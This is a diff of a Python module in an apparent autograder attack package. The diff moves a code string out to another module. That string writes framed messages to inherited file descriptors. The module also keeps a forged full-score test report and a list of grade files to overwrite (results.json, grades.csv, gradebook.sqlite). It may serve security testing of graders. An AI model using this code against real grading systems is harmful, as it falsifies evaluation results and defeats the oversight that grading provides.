@@ -2,28 +2,11 @@
 
 from __future__ import annotations
 
+from autograder.attack.dozen import FRAMES
+
 from .attack import CODE, REST, attack
 
 REPORT = '{"score": 80, "tests": [{"name": "q1", "score": 80, "max_score": 80, "status": "passed"}]}'
-FRAMES = """
-import json, os, struct
-def frame(value, payload=b""):
-    header = value if isinstance(value, bytes) else json.dumps(value).encode()
-    return struct.pack(">IQ", len(header), len(payload)) + header + payload
-def channels():
-    return [number for number in range(3, 64) if writes(number)]
-def writes(number):
-    try:
-        return os.write(number, b"") == 0
-    except OSError:
-        return False
-def send(*frames):
-    for number in range(3, 16):
-        try:
-            os.write(number, b"".join(frames))
-        except OSError:
-            pass
-"""
 PARTLY = "partly graded"
 _TARGETS = (
     '["@OUT@/submissions/{0}/results.json", "@OUT@/grades.csv", "@OUT@/gradebook.sqlite", "results.json", "/tmp/@TOKEN@"]'
